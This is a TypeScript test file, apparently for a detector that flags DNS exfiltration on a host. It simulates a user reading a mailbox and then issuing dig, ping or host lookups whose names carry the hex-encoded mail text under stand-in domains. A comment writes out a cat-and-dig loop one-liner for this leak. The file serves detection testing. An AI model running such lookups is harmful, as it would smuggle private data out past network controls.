import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const hex = (text: string): string => Buffer.from(text).toString('hex');
const DATA = ['From partner1@example', 'Subject: offer for Q3', 'we agree on 4.2 millio'].map(hex);
const below = (domain: string, labels: readonly string[] = DATA): string[] => labels.map(label => `${label}.${domain}`);

/** clerk reads buyer's mail, and `asks` starts programs that look names up beside or below the reader. */
async function told(asks: (shell: Process, path: string) => void): Promise<string> {
  const log = new HostLog();
  const { path } = log.deliver({ to: 'buyer' });
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  log.wait(MINUTE);
  asks(log.shell('clerk'), path);
  return (await scanLog(log))
    .map(({ severity, story }) => `${severity} ${/to (\S+)\.$/.exec(story)?.[1] ?? ''}`.trim())
    .join();
}
const lookUp = (parent: Process, names: readonly string[], tool = '/usr/bin/dig'): void => {
  for (const name of names) parent.run(`${tool} +short ${name}`).connect('198.51.100.53', 53);
};
/** `cat x | while read l; do dig "$l.domain"; done`: the loop is a fork that starts no program of its own. */
const looped = (names: readonly string[], tool?: string) => (shell: Process, path: string) => {
  shell.run(`/usr/bin/cat ${path}`).read(path);
  lookUp(shell.fork(), names, tool);
};

test('names made of data are asked beside the reader: the data leave by the name server', async () => {
  assert.equal(await told(looped(below('q.example.net'))), 'medium q.example.net');
  assert.equal(await told(looped(below('q.example.net'), '/usr/bin/ping')), 'medium q.example.net', 'whatever asks');
  const inScript = (shell: Process, path: string): void => {
    const script = shell.run('/usr/bin/python3 /home/clerk/check.py').read(path);
    lookUp(script, below('t.example.net'), '/usr/bin/host');
  };
  assert.equal(await told(inScript), 'medium t.example.net', 'started by the reader');
  const atOnce = (shell: Process, path: string): void => {
    shell.run(`/usr/bin/cat ${path}`).read(path);
    lookUp(shell, [below('q.example.net').join(' ')]);
  };
  assert.equal(await told(atOnce), 'medium q.example.net', 'all names in one command');
  assert.equal(await told(looped(below('q.mx.example.org'))), 'low q.mx.example.org', 'below the own domain');
});

test('names that people and their tools look up are no data', async () => {
  const READ = 'informational';
  assert.equal(
    await told(looped(['mail.example.net', 'smtp-relay-12.eu.example.net', '2.0.0.127.zen.example.net'])),
    READ,
  );
  assert.equal(await told(looped(below('q.example.net', DATA.slice(0, 2)))), READ, 'two: a key, a digest');
  const [once = ''] = below('q.example.net');
  assert.equal(await told(looped([once, once, once])), READ, 'one name, asked again');
  assert.equal(await told(looped(DATA.map((label, i) => `${label}.q${i}.example${i}.net`))), READ, 'of three domains');
  const LETTERS = ['averylongnamewithoutanydigit', 'anotherlongnamewithoutdigits', 'thirdlongnamewithoutanydigits'];
  assert.equal(await told(looped(below('example.net', LETTERS))), READ, 'words');
  const apart = (shell: Process, path: string): void => {
    shell.run(`/usr/bin/cat ${path}`).read(path);
    shell.records.now += MINUTE;
    lookUp(shell, below('q.example.net'));
  };
  assert.equal(await told(apart), READ, 'later, beside nothing');
});
